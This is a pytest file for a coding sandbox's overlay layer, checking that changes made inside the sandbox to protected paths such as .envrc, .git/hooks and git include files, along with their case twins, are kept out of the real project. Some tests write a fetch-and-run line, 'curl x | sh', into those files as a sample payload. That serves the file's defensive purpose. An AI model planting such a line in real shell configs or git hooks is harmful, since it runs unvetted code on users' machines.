"""Applying a command's private layer to a root, and the paths git names: edge cases.

The layer is filled here the way the kernel's overlay fills it (files,
directories, whiteouts as 0/0 character devices, the opaque mark), then
applied to a real root; the end-to-end tests run real bubblewrap.
"""

from __future__ import annotations

import fnmatch
import functools
import os
import shutil
import stat
import subprocess
from typing import TYPE_CHECKING

import hypothesis
import pytest
from coding_security_shadows import without_module_shadows
from hypothesis import strategies as st

from prism.coding.security import PROTECTED_PATHS, SandboxUnavailableError
from prism.coding.security._gitnames import cached_git_entries, git_entries, index_restamped
from prism.coding.security._implied import implied_protected
from prism.coding.security._overlay import RootOverlay, overlay_base
from prism.coding.security._protected import ProtectedPaths, in_git_directory

if TYPE_CHECKING:
    from pathlib import Path

_PROTECTED = ProtectedPaths(PROTECTED_PATHS)


def _layer(root: Path, base: Path) -> RootOverlay:
    base.mkdir(exist_ok=True)
    return RootOverlay(str(root), str(base), PROTECTED_PATHS)


def _apply(overlay: RootOverlay, extra: list[str] | None = None) -> list[str]:
    try:
        return overlay.apply(_PROTECTED, lambda: extra or [])
    finally:
        overlay.discard()


def _whiteout(path: str) -> None:
    os.mknod(path, stat.S_IFCHR | 0o600, 0)


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="whiteouts need mknod (root)")


def test_a_layer_index_is_written_over_only_when_it_has_no_other_name(tmp_path: Path) -> None:
    """The copy-back's rewrite of a layer's index (its caches dropped, stat data zeroed)
    never reaches another name of the same file, nor what a link named index leads to."""
    from prism.coding.security._overlay import _write_index

    index, other, victim = tmp_path / "index", tmp_path / "other", tmp_path / "victim"
    index.write_bytes(b"the command's index")
    os.link(index, other)
    _write_index(str(index), b"rewritten")
    assert index.read_bytes() == b"rewritten"
    assert other.read_bytes() == b"the command's index"
    alone = index.stat().st_ino
    _write_index(str(index), b"shorter")  # its only name: written over its own bytes
    assert (index.read_bytes(), index.stat().st_ino) == (b"shorter", alone)
    victim.write_bytes(b"victim")
    index.unlink()
    index.symlink_to(victim)
    _write_index(str(index), b"rewritten")
    assert victim.read_bytes() == b"victim"
    assert not index.is_symlink()
    assert index.read_bytes() == b"rewritten"


def test_a_base_inside_every_root_is_refused() -> None:
    with pytest.raises(SandboxUnavailableError, match="TMPDIR"):
        overlay_base(["/"])


def test_the_layers_directory_is_this_users_own_and_private(tmp_path: Path) -> None:
    layers = tmp_path / f"prism-layers-{os.getuid()}"
    layers.mkdir(mode=0o755)
    from prism.coding.security._overlay import _layers_directory

    assert _layers_directory(str(tmp_path)) == str(layers)
    assert stat.S_IMODE(layers.stat().st_mode) == 0o700
    layers.rmdir()
    layers.symlink_to(tmp_path)  # planted by someone else: never followed
    with pytest.raises(OSError, match="not a directory of this user"):
        _layers_directory(str(tmp_path))


def test_links_at_protected_names_protect_their_targets_inside_the_root(
    root: Path, tmp_path: Path
) -> None:
    (root / ".envrc").symlink_to("envrc.real")
    (root / ".bashrc").symlink_to("/etc/hostname")  # outside: nothing to protect here
    (root / ".profile").symlink_to(root)  # the root itself
    (root / ".zshrc").write_text("")
    (root / ".vscode").mkdir()
    (root / ".vscode" / "x").symlink_to("../tasks.real")
    entries = [".envrc", ".bashrc", ".profile", ".zshrc", ".vscode/x", "*.secret", "gone/x"]
    found = without_module_shadows(implied_protected(str(root), ProtectedPaths(entries)))
    assert sorted(found) == ["envrc.real", "tasks.real"]


def test_a_file_through_a_protected_link_is_left_out(root: Path, tmp_path: Path) -> None:
    (root / ".envrc").symlink_to("envrc.real")
    overlay = _layer(root, tmp_path / "base")
    (tmp_path / "base").joinpath(os.path.basename(overlay.directory), "upper", "envrc.real")
    with open(os.path.join(overlay.upper, "envrc.real"), "w") as handle:
        handle.write("curl x | sh\n")
    try:
        notes = overlay.apply(_PROTECTED, lambda: implied_protected(str(root), _PROTECTED))
    finally:
        overlay.discard()
    assert not (root / "envrc.real").exists()
    assert "envrc.real" in " ".join(notes)


def test_case_and_normalisation_twins_of_protected_names_are_protected() -> None:
    """On a case-insensitive file system ``.ENVRC`` is ``.envrc``: every match folds names."""
    folded = ProtectedPaths([*PROTECTED_PATHS, "caf\u00e9.cfg"])
    for parts, entry in [
        ((".ENVRC",), ".envrc"),
        (("src", ".Envrc"), ".envrc"),
        ((".VSCode", "tasks.json"), ".vscode"),
        ((".Git", "config"), ".git/config"),
        ((".GIT", "HOOKS", "PRE-COMMIT"), ".git/hooks"),
        (("pkg", "Head"), "HEAD"),
        ((".LintStagedRC.json",), ".lintstagedrc*"),
        ((".\u212aube", "config"), ".kube"),  # KELVIN SIGN folds to k
        (("cafe\u0301.cfg",), "caf\u00e9.cfg"),  # decomposed, as macOS file systems keep it
    ]:
        assert folded.covers(parts) == entry, parts
        assert folded.match("/r/" + "/".join(parts)) == entry, parts
    assert folded.leads_to((".CARGO",)) == ".cargo/config.toml"
    assert folded.covers(("src", "envrc")) is None
    assert in_git_directory(("sub", ".gIT", "index"))
    assert not in_git_directory(("sub", "git", "index"))


def test_case_twins_of_git_and_protected_names_do_not_come_back(root: Path, tmp_path: Path) -> None:
    """Written under another case, they would be the root's own on a case-insensitive one."""
    (root / ".git" / "refs" / "heads").mkdir(parents=True)
    overlay = _layer(root, tmp_path / "base")
    for name in (".ENVRC", ".GIT/HOOKS/PRE-COMMIT", ".Git/refs/heads/main", "B.GIT/CONFIG"):
        path = os.path.join(overlay.upper, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write("curl x | sh\n")
    os.makedirs(os.path.join(overlay.upper, "kept"))
    with open(os.path.join(overlay.upper, "kept", "envrc"), "w") as handle:
        handle.write("data\n")
    notes = " ".join(_apply(overlay, ["b.git/config"]))
    assert sorted(os.listdir(root)) == [".git", "B.GIT", "kept"], notes
    assert os.listdir(root / "B.GIT") == [], notes
    assert os.listdir(root / ".git" / "refs" / "heads") == [], notes
    assert (root / "kept" / "envrc").read_text() == "data\n"
    assert "another case of .git" in notes, notes
    assert ".ENVRC" in notes, notes
    assert "B.GIT/CONFIG" in notes, notes


def test_special_files_and_stale_locks_are_not_kept(root: Path, tmp_path: Path) -> None:
    (root / ".git").mkdir()
    overlay = _layer(root, tmp_path / "base")
    os.mkfifo(os.path.join(overlay.upper, "pipe"))
    os.mkdir(os.path.join(overlay.upper, ".git"))
    open(os.path.join(overlay.upper, ".git", "index.lock"), "w").close()
    notes = _apply(overlay)
    assert not (root / "pipe").exists()
    assert not (root / ".git" / "index.lock").exists()
    assert notes == [f"not applied to {root} (special files are not kept): pipe"]


def test_a_command_never_puts_the_root_past_the_walks_bound(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The walk refuses a root of more than MAX_WALKED_ENTRIES entries, and with it every
    later change (the write tool's too): one command's 20,000 files put a root of 990,000
    there. New entries past the bound are left out, said; a changed file still comes
    back. The walk counts a directory it listed before as it counted it then (its files
    too), so the process that grew the root refuses it as the next one does (the bound
    made small here: the same path at any size)."""
    from prism.coding.security import _implied, _overlay
    from prism.coding.security._implied import held_entries

    monkeypatch.setattr(_implied, "MAX_WALKED_ENTRIES", 9)
    monkeypatch.setattr(_overlay, "MAX_WALKED_ENTRIES", 9)
    # (listings of this second are kept: as of directories listed a while ago)
    monkeypatch.setattr(_implied, "_clock", lambda: 2**62)
    (root / "data").mkdir()
    for name in "01234":
        (root / "data" / name).write_text("")
    implied_protected(str(root), _PROTECTED)  # 6 entries: data and its files
    overlay = _layer(root, tmp_path / "base")
    os.mkdir(os.path.join(overlay.upper, "more"))
    for name in "12345":
        open(os.path.join(overlay.upper, "more", name), "w").close()
    open(os.path.join(overlay.upper, "x"), "w").close()
    os.mkdir(os.path.join(overlay.upper, "data"))
    with open(os.path.join(overlay.upper, "data", "0"), "w") as changed:
        changed.write("changed\n")
    try:
        notes = overlay.apply(
            _PROTECTED, list, entries=functools.partial(held_entries, str(root), _PROTECTED)
        )
    finally:
        overlay.discard()
    assert (root / "data" / "0").read_text() == "changed\n", notes
    assert sorted(os.listdir(root)) == ["data", "more"], notes
    assert sorted(os.listdir(root / "more")) == ["1", "2"], notes
    assert notes == [
        f"not applied to {root} (past the 9 entries a root may hold): more/3, more/4, more/5, x"
    ]
    implied_protected(str(root), _PROTECTED)  # 9: not refused
    (root / "y").write_text("")  # the host's own: the tenth
    with pytest.raises(SandboxUnavailableError, match="more than 9 entries"):
        implied_protected(str(root), _PROTECTED)
    (root / "y").unlink()
    monkeypatch.setattr(_implied, "MAX_WALKED_ENTRIES", 1_000_000)
    implied_protected(str(root), _PROTECTED)  # listed, and kept
    monkeypatch.setattr(_implied, "MAX_WALKED_ENTRIES", 8)
    with pytest.raises(SandboxUnavailableError, match="more than 8 entries"):
        implied_protected(str(root), _PROTECTED)  # from the kept listings: 9 still


def test_a_failure_to_ask_git_keeps_every_change_out(root: Path, tmp_path: Path) -> None:
    overlay = _layer(root, tmp_path / "base")
    open(os.path.join(overlay.upper, "made.txt"), "w").close()

    def hangs() -> list[str]:
        raise SandboxUnavailableError("git did not answer")

    try:
        notes = overlay.apply(_PROTECTED, hangs)
    finally:
        overlay.discard()
    assert notes == [f"the changes to {root} were not applied: git did not answer"]
    assert not (root / "made.txt").exists()


def test_a_root_gone_meanwhile_is_reported(tmp_path: Path) -> None:
    root = tmp_path / "gone"
    root.mkdir()
    overlay = _layer(root, tmp_path / "base")
    open(os.path.join(overlay.upper, "made.txt"), "w").close()
    root.rmdir()
    notes = _apply(overlay)
    assert len(notes) == 1
    assert "were not applied" in notes[0]


def test_a_layer_deeper_than_the_recursion_limit_stops_and_says_so(
    root: Path, tmp_path: Path
) -> None:
    overlay = _layer(root, tmp_path / "base")
    fd = os.open(overlay.upper, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1100):  # os.makedirs itself recurses
        os.mkdir("d", dir_fd=fd)
        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.close(fd)
    notes = _apply(overlay)
    assert any("applying stopped" in note for note in notes)
    assert not os.path.exists(overlay.directory)
    subprocess.run(["rm", "-rf", "--", str(root / "d")], check=True)


def test_a_change_the_file_system_refuses_is_reported(root: Path, tmp_path: Path) -> None:
    if shutil.which("chattr") is None or os.geteuid() != 0:
        pytest.skip("needs chattr as root")
    (root / "locked").mkdir()
    if subprocess.run(["chattr", "+i", str(root / "locked")], check=False).returncode != 0:
        pytest.skip("this file system has no immutable flag")
    try:
        overlay = _layer(root, tmp_path / "base")
        os.mkdir(os.path.join(overlay.upper, "locked"))
        open(os.path.join(overlay.upper, "locked", "f"), "w").close()
        notes = _apply(overlay)
    finally:
        subprocess.run(["chattr", "-i", str(root / "locked")], check=True)
    assert any("could not be applied" in note and "locked/f" in note for note in notes)


@needs_root
def test_a_whiteout_for_something_already_gone_is_nothing(root: Path, tmp_path: Path) -> None:
    overlay = _layer(root, tmp_path / "base")
    _whiteout(os.path.join(overlay.upper, "never-was"))
    assert _apply(overlay) == []


@needs_root
def test_removing_a_directory_keeps_protected_entries_at_any_depth(
    root: Path, tmp_path: Path
) -> None:
    (root / "a" / "b").mkdir(parents=True)
    (root / "a" / "b" / ".envrc").write_text("keep\n")
    (root / "a" / "b" / "other").write_text("x\n")
    (root / "a" / "top").write_text("x\n")
    overlay = _layer(root, tmp_path / "base")
    _whiteout(os.path.join(overlay.upper, "a"))
    notes = _apply(overlay)
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*")) == [
        "a",
        "a/b",
        "a/b/.envrc",
    ]
    assert "a/b/.envrc" in " ".join(notes)


@needs_root
@pytest.mark.parametrize("replacement", ["file", "link"])
def test_replacing_a_directory_that_holds_a_protected_entry_keeps_it(
    root: Path, tmp_path: Path, replacement: str
) -> None:
    (root / "sub").mkdir()
    (root / "sub" / ".envrc").write_text("keep\n")
    overlay = _layer(root, tmp_path / "base")
    if replacement == "file":
        with open(os.path.join(overlay.upper, "sub"), "w") as handle:
            handle.write("x\n")
    else:
        os.symlink("/etc", os.path.join(overlay.upper, "sub"))
    notes = _apply(overlay)
    assert (root / "sub" / ".envrc").read_text() == "keep\n"
    assert "sub/.envrc" in " ".join(notes)


def test_an_opaque_directory_replaces_the_real_one_except_protected_entries(
    root: Path, tmp_path: Path
) -> None:
    (root / "d").mkdir()
    (root / "d" / "old").write_text("old\n")
    (root / "d" / ".envrc").write_text("keep\n")
    overlay = _layer(root, tmp_path / "base")
    upper_d = os.path.join(overlay.upper, "d")
    os.mkdir(upper_d)
    os.setxattr(upper_d, "user.overlay.opaque", b"y")
    with open(os.path.join(upper_d, "new"), "w") as handle:
        handle.write("new\n")
    _apply(overlay)
    assert sorted(os.listdir(root / "d")) == [".envrc", "new"]


def test_extra_paths_git_names_are_protected_inside_git_too(root: Path, tmp_path: Path) -> None:
    overlay = _layer(root, tmp_path / "base")
    os.makedirs(os.path.join(overlay.upper, "libgit", "hooks"))
    open(os.path.join(overlay.upper, "libgit", "hooks", "x"), "w").close()
    os.makedirs(os.path.join(overlay.upper, "lib", ".git", "objects"))
    open(os.path.join(overlay.upper, "lib", ".git", "objects", "o"), "w").close()
    notes = _apply(overlay, ["libgit", "lib/.git"])
    assert not (root / "libgit").exists()
    assert not (root / "lib" / ".git").exists()
    assert len(notes) == 1


def test_anchored_patterns_keep_what_they_match_out_of_the_copy_back(
    root: Path, tmp_path: Path
) -> None:
    """Paths a pattern the root's files imply matches (`include mk/*.mk`, `run-parts
    ci/checks`, `find tools -name '*.sh' -exec sh {} ;`), new ones included, are left out,
    and so is a link on the way to one; other files there come back."""
    overlay = _layer(root, tmp_path / "base")
    made = ["mk/extra.mk", "ci/checks/b", "tools/a/b/x.sh", "mk/notes.txt", "tools/a/y.py"]
    for path in made:
        os.makedirs(os.path.dirname(os.path.join(overlay.upper, path)), exist_ok=True)
        with open(os.path.join(overlay.upper, path), "w") as handle:
            handle.write("x\n")
    os.symlink("elsewhere", os.path.join(overlay.upper, "ci", "checks2"))
    os.symlink("elsewhere", os.path.join(overlay.upper, "conf.d"))
    notes = _apply(overlay, ["mk/*.mk", "ci/checks/*", "tools/**/*.sh", "conf.d/*.mk"])
    kept = [path for path in made if (root / path).exists()]
    assert kept == ["mk/notes.txt", "tools/a/y.py"], notes
    assert not (root / "conf.d").is_symlink()
    assert (root / "ci" / "checks2").is_symlink()


def _git(cwd: Path, *args: str, input: str | None = None) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True, input=input)


@pytest.mark.git
def test_git_names_hooks_includes_and_submodule_git_directories(root: Path, tmp_path: Path) -> None:
    _git(root, "init", "-q")
    _git(root, "config", "core.hooksPath", ".githooks")
    _git(root, "config", "include.path", "../team.gitconfig")
    _git(root, "config", "--add", "include.path", str(tmp_path / "outside.gitconfig"))
    _git(root, "config", "includeIf.onbranch:x.path", "")
    (root / "lib").mkdir()
    (root / "lib" / ".git").write_text("gitdir: ../libgit\n")
    (root / "libgit").mkdir()
    (root / "far").mkdir()
    (root / "far" / ".git").write_text(f"gitdir: {tmp_path}\n")
    (root / "junk").mkdir()
    (root / "junk" / ".git").write_text("not a gitfile\n")
    sha = "1" * 40
    for path in ("lib", "far", "junk", "missing"):
        _git(root, "update-index", "--add", "--cacheinfo", f"160000,{sha},{path}")
    entries = git_entries(str(root))
    assert ".githooks" in entries
    assert "team.gitconfig" in entries
    assert "lib/.git" in entries
    assert "libgit/config" in entries and "libgit/hooks" in entries  # noqa: PT018
    assert "far/.git" in entries and not any(e.startswith("..") for e in entries)  # noqa: PT018
    assert "missing/.git" in entries
    assert not any("outside.gitconfig" in e for e in entries)


@pytest.mark.git
def test_git_names_the_configured_names_and_each_link_on_the_way(root: Path) -> None:
    """A configured name that is a link is protected as a name, not only where it leads:
    replaced by a file, ``.githooks`` or ``project.gitconfig`` would be what git reads."""
    _git(root, "init", "-q")
    (root / "shared").mkdir()
    (root / "shared" / "team.cfg").write_text("")
    (root / "tools" / "hooks").mkdir(parents=True)
    (root / "project.gitconfig").symlink_to("shared/team.cfg")
    (root / "cfg").symlink_to("shared")
    (root / ".githooks").symlink_to("tools/hooks")
    _git(root, "config", "include.path", "../project.gitconfig")
    _git(root, "config", "--add", "include.path", "../cfg/team.cfg")
    _git(root, "config", "core.hooksPath", ".githooks")
    entries = git_entries(str(root))
    for name in ("tools/hooks", "shared/team.cfg", "project.gitconfig", "cfg/team.cfg", "cfg"):
        assert name in entries, entries
    assert ".githooks" in entries, entries


@pytest.mark.git
def test_a_linked_worktrees_real_git_directory_is_in_the_key(root: Path, tmp_path: Path) -> None:
    """The root is a linked worktree (``.git`` is a file): the common directory's config,
    which git reads for it, is keyed, so a hooks directory set meanwhile is protected."""
    _git(root, "init", "-q")
    _git(
        root,
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@e",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "0",
    )
    _git(root, "worktree", "add", "-q", str(tmp_path / "wt"))
    linked = str(tmp_path / "wt")
    assert cached_git_entries(linked) == []
    _git(tmp_path / "wt", "config", "core.hooksPath", "scripts/hooks")
    assert cached_git_entries(linked) == ["scripts/hooks"]


@pytest.mark.git
def test_hooks_outside_the_root_and_command_line_includes_add_nothing(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _git(root, "init", "-q")
    _git(root, "config", "core.hooksPath", str(tmp_path / "hooks"))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "include.path")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(root / "cli.gitconfig"))
    assert git_entries(str(root)) == []


@pytest.mark.git
def test_the_answer_is_cached_until_a_config_file_changes(root: Path) -> None:
    _git(root, "init", "-q")
    first = cached_git_entries(str(root))
    assert cached_git_entries(str(root)) is first
    _git(root, "config", "core.hooksPath", ".githooks")
    assert cached_git_entries(str(root)) == [".githooks"]


@pytest.mark.git
def test_an_index_restamped_by_the_copy_back_keeps_its_submodules(root: Path) -> None:
    """The copy-back's rewrite of the index (stat data alone zeroed) keeps the answer kept
    for that index; any other index written since is asked about again."""
    _git(root, "init", "-q")
    (root / "f").write_text("f")
    _git(root, "add", "f")
    index = root / ".git" / "index"
    first = cached_git_entries(str(root))
    before = os.stat(index)
    data = index.read_bytes()
    for turn in range(2):
        replacement = root / ".git" / "index.new"
        replacement.write_bytes(data)
        os.replace(replacement, index)
        if turn == 0:
            index_restamped(str(root), before, os.stat(index))
            assert cached_git_entries(str(root)) is first
        else:
            index_restamped(str(root), before, os.stat(index))  # (not the index kept)
            assert cached_git_entries(str(root)) is not first


@pytest.mark.git
def test_a_new_index_asks_git_for_submodules_alone(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The configured part is kept while only the index changed; a branch switch asks again.

    What an include names counts whatever its condition (read by git's rules before
    git reads it): nested.gitconfig from the start.
    """
    from prism.coding.security import _gitnames

    _git(root, "init", "-q", "-b", "main")
    (root / "team.gitconfig").write_text("[include]\n\tpath = nested.gitconfig\n")
    _git(root, "config", "includeIf.onbranch:topic.path", "../team.gitconfig")
    assert cached_git_entries(str(root)) == [".git/hooks", "team.gitconfig", "nested.gitconfig"]
    asked: list[str] = []
    real = _gitnames._git

    def counted(where: str, *args: str, clean: tuple[int, ...] = (0,)) -> bytes:
        asked.append(args[0])
        return real(where, *args, clean=clean)

    monkeypatch.setattr(_gitnames, "_git", counted)
    _git(root, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},lib")
    assert cached_git_entries(str(root)) == [
        ".git/hooks", "team.gitconfig", "nested.gitconfig", "lib/.git",
    ]  # fmt: skip
    assert asked == ["ls-files"]
    # HEAD names another branch: its onbranch include (and what that includes) now counts
    _git(root, "symbolic-ref", "HEAD", "refs/heads/topic")
    assert cached_git_entries(str(root)) == [
        ".git/hooks", "team.gitconfig", "nested.gitconfig", "lib/.git",
    ]  # fmt: skip


@pytest.mark.git
def test_the_common_directorys_config_and_a_gitfile_are_in_the_key(
    root: Path, tmp_path: Path
) -> None:
    """git reads the configuration of the directory ``.git/commondir`` names: its change counts."""
    _git(root, "init", "-q")
    common = tmp_path / "common"
    _git(tmp_path, "init", "-q", "--bare", str(common))
    (root / ".git" / "commondir").write_text(f"{common}\n")
    assert cached_git_entries(str(root)) == []  # the hooks are the common directory's
    _git(tmp_path, "config", "--file", str(common / "config"), "core.hooksPath", ".githooks")
    assert cached_git_entries(str(root)) == [".githooks"]
    # a .git file naming its git directory: the file itself is in the key
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / ".git").write_text(f"gitdir: {root / '.git'}\n")
    linked = str(tmp_path / "linked")
    assert cached_git_entries(linked) is cached_git_entries(linked)


@pytest.mark.git
def test_an_index_the_copy_back_placed_is_known_without_asking_git(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After the new index is moved into place, the anchored paths are what git would say."""
    from prism.coding.security import _gitnames
    from prism.coding.security._gitnames import remember_index

    _git(root, "init", "-q")
    (root / "lib").mkdir()
    (root / "lib" / ".git").write_text("gitdir: ../libgit\n")
    (root / "libgit").mkdir()
    for stage in ("1", "2"):  # a conflicted gitlink: listed once per stage
        _git(root, "update-index", "--index-info", input=f"160000 {'1' * 40} {stage}\tlib\n")
    assert cached_git_entries(str(root)).count("lib/.git") == 2
    base = tmp_path / "layers"
    overlay = _layer(root, base)
    os.mkdir(os.path.join(overlay.upper, ".git"))
    new = os.path.join(overlay.upper, ".git", "index")
    shutil.copyfile(root / ".git" / "index", new)
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=root, input=b"x\n",
                          capture_output=True, check=True).stdout.decode().strip()  # fmt: skip
    subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{blob},f.txt"],
                   cwd=root, env={**os.environ, "GIT_INDEX_FILE": new}, check=True)  # fmt: skip
    try:
        notes = overlay.apply(
            _PROTECTED,
            lambda: cached_git_entries(str(root)),
            index_placed=functools.partial(remember_index, str(root)),
        )
    finally:
        overlay.discard()
    assert notes == []
    asked: list[str] = []
    real = _gitnames._git

    def counted(where: str, *args: str, clean: tuple[int, ...] = (0,)) -> bytes:
        asked.append(args[0])
        return real(where, *args, clean=clean)

    monkeypatch.setattr(_gitnames, "_git", counted)
    assert cached_git_entries(str(root)) == git_entries(str(root))
    assert asked.count("ls-files") == 1  # git_entries' own: none for the cached answer
    # the host's git writes the index again: asked again
    _git(root, "update-index", "--force-remove", "f.txt")
    asked.clear()
    cached_git_entries(str(root))
    assert asked == ["ls-files"]


@pytest.mark.git
def test_the_hosts_index_listed_by_the_check_serves_the_anchored_paths(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An index the host's own git wrote is listed once by the index check: only the
    entries that differ from it are judged, and its gitlinks are what git names."""
    from prism.coding.security import _gitnames, _overlay
    from prism.coding.security._gitnames import remember_index

    _git(root, "init", "-q")
    (root / "lib").mkdir()
    (root / "lib" / ".git").write_text("gitdir: ../libgit\n")
    (root / "libgit").mkdir()
    _git(root, "update-index", "--index-info", input=f"160000 {'1' * 40} 0\tlib\n")
    cached_git_entries(str(root))  # the configured part, asked once
    _git(root, "update-index", "--index-info", input=f"100644 {'2' * 40} 0\t.envrc\n")
    overlay = _layer(root, tmp_path / "layers")
    os.mkdir(os.path.join(overlay.upper, ".git"))
    new = os.path.join(overlay.upper, ".git", "index")
    shutil.copyfile(root / ".git" / "index", new)
    subprocess.run(["git", "update-index", "--index-info"], cwd=root, check=True,
                   input=f"100644 {'3' * 40} 0\tsrc.py\n".encode(),
                   env={**os.environ, "GIT_INDEX_FILE": new})  # fmt: skip
    judged: list[bytes] = []
    real_entry = _overlay._Applier._protected_entry

    def entry(self: object, top: tuple[str, ...], path: bytes) -> bool:
        judged.append(path)
        return real_entry(self, top, path)  # type: ignore[arg-type]

    monkeypatch.setattr(_overlay._Applier, "_protected_entry", entry)
    asked: list[str] = []
    real_git = _gitnames._git

    def counted(where: str, *args: str, clean: tuple[int, ...] = (0,)) -> bytes:
        asked.append(args[0])
        return real_git(where, *args, clean=clean)

    monkeypatch.setattr(_gitnames, "_git", counted)
    _overlay._LISTED.clear()  # the host's index is none the check listed
    placed: list[list[bytes]] = []

    def told(links: list[bytes], seen: os.stat_result) -> None:
        placed.append(links)
        remember_index(str(root), links, seen)

    try:
        notes = overlay.apply(_PROTECTED, lambda: cached_git_entries(str(root)), index_placed=told)
    finally:
        overlay.discard()
    assert notes == []
    assert judged == [b"src.py"]  # the host's own .envrc entry is no change of the command
    assert placed == [[b"lib"], [b"lib"]]  # the host's index, then the new one placed
    assert asked == []  # the anchored paths needed no listing of their own
    monkeypatch.setattr(_gitnames, "_git", real_git)
    assert cached_git_entries(str(root)) == git_entries(str(root))
    assert "lib/.git" in git_entries(str(root))


@pytest.mark.git
def test_an_index_is_remembered_only_as_placed_and_configured(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from prism.coding.security import _gitnames
    from prism.coding.security._gitnames import remember_index

    _git(root, "init", "-q")
    index = root / ".git" / "index"
    _git(root, "read-tree", "--empty")  # the host's: what git says of it is not what is kept
    placed = os.stat(index)
    remember_index(str(root), [b"x"], placed)  # nothing asked yet: nothing to keep it with
    assert str(root) not in _gitnames._submodules
    before = cached_git_entries(str(root))
    kept = _gitnames._submodules[str(root)]
    (tmp_path / "other").write_bytes(b"")
    remember_index(str(root), [b"x"], os.stat(tmp_path / "other"))  # another file
    monkeypatch.setenv("GIT_DIR", str(root / ".git"))
    remember_index(str(root), [b"x"], placed)  # git pointed elsewhere by the environment
    monkeypatch.delenv("GIT_DIR")
    _git(root, "config", "core.hooksPath", ".githooks")
    remember_index(str(root), [b"x"], placed)  # the configuration changed since
    assert _gitnames._submodules[str(root)] is kept
    assert before == [".git/hooks"]


def test_without_git_nothing_is_named(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(root))
    assert git_entries(str(root)) == []


def _covers_by_every_window(matcher: ProtectedPaths, parts: tuple[str, ...]) -> str | None:
    # The plain reading of covers(): every entry, in order, at every position.
    for entry in matcher.entries:
        pattern = entry.split("/")
        for start in range(len(parts) - len(pattern) + 1):
            window = parts[start : start + len(pattern)]
            if all(fnmatch.fnmatchcase(p, q) for p, q in zip(window, pattern, strict=True)):
                return entry
    return None


_NAMES = [*sorted({part for entry in PROTECTED_PATHS for part in entry.split("/")}), "src", "x",
          "mise.dev.toml", ".mise.a.b.toml", "mise.toml.x"]  # fmt: skip


@hypothesis.given(st.lists(st.sampled_from([*_NAMES, "a.pem"]), max_size=8))
def test_covers_names_the_entry_every_window_would(parts: list[str]) -> None:
    matcher = ProtectedPaths([*PROTECTED_PATHS, "*.pem", "src/*/x"])
    assert matcher.covers(tuple(parts)) == _covers_by_every_window(matcher, tuple(parts))


def test_match_names_the_entry_a_scan_of_every_entry_names() -> None:
    """``ProtectedPaths.match`` tries at each position only the entries that can start
    there: it names the same entry as a scan of every entry at every position, the
    first in the list's order, for paths that are, lie below, or are ancestors of
    entries, case twins and patterns among them."""
    import fnmatch
    import random
    import re

    from prism.coding.security._protected import fold_name

    matcher = ProtectedPaths([*PROTECTED_PATHS, "caf\u00e9.cfg", "deep/*/x"])
    # Each entry's folded components, compiled once as fnmatch.fnmatchcase compiles them:
    # the scan tries every entry at every position of 3,000 paths (millions of windows).
    patterns = []
    for entry in matcher.entries:
        first, *rest = (re.compile(fnmatch.translate(fold_name(p))).match for p in entry.split("/"))
        patterns.append((entry, first, rest))

    def scan(path: str) -> str | None:
        parts = [fold_name(p) for p in path.split("/") if p]
        for entry, first, rest in patterns:
            for start, part in enumerate(parts):
                # the window parts[start : start + len(entry's components)], compared
                # component by component (a window cut short by the path's end too)
                if first(part) is not None and all(
                    q(p) is not None for p, q in zip(parts[start + 1 :], rest, strict=False)
                ):
                    return entry
        return None

    words = ["src", "a", "x", "deep", "q", "Cafe\u0301.cfg", "node_modules", ".GIT", "HOOKS"]
    words += [part for entry in PROTECTED_PATHS for part in entry.split("/")]
    chooser = random.Random(7)
    paths = ["/r/" + entry.replace("*", "zz") for entry in PROTECTED_PATHS]
    paths += ["/r/src/app.py", "/r/.git", "/r/.cargo", "/r/a/.config", "/r/deep/q/x/y"]
    for _ in range(3000):
        paths.append("/r/" + "/".join(chooser.choice(words) for _ in range(chooser.randint(1, 5))))
    for path in paths:
        assert matcher.match(path) == scan(path), path
